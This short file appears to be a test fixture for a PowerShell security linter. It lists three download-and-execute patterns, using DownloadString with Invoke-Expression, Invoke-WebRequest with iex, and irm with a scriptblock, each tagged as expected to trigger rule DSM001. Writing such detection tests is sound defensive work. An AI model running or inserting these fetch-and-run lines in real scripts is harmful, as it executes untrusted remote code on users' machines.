$script = (New-Object Net.WebClient).DownloadString("https://example.com/install.ps1")
Invoke-Expression $script  # expect: DSM001
$response = Invoke-WebRequest -Uri https://example.com/setup.ps1 -UseBasicParsing
iex $response.Content  # expect: DSM001
$code = irm https://example.com/tool.ps1
& ([scriptblock]::Create($code))  # expect: DSM001
